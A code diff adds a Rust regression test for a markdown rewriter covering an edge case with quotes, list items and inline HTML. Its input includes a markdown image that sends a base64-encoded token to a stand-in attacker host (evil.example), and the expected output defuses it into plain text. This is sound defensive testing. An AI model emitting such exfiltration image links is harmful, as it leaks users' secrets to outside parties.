@@ -1612,3 +1612,15 @@ fn lines_markdown_it_reads_as_table_headers_before_any_other_block() {
         stays_unchanged(text);
     }
 }
+
+/// An insertion at the place where a replacement starts is made too: the line after a
+/// definition in a list item's quote gets its empty quote line although the inline `<a>`
+/// that begins it is rewritten (to itself) on every pass (found by the markdown-it
+/// property at 100,000 cases). Checked with markdown-it 15 and cmark-gfm.
+#[test]
+fn an_insertion_where_a_replacement_starts_is_made() {
+    settles_with_finding(
+        "- > [x]: `\n<a rel=\"noopener noreferrer\"> text\n10.     <search> ![i](https://evil.example/c?token=c2VjcmV0LXRva2VuLXZhbHVl)\n",
+        "- > [x]: `\n  >\n<a rel=\"noopener noreferrer\"> text\n10.     <search> \\[image: i (evil.example)\\]\n",
+    );
+}
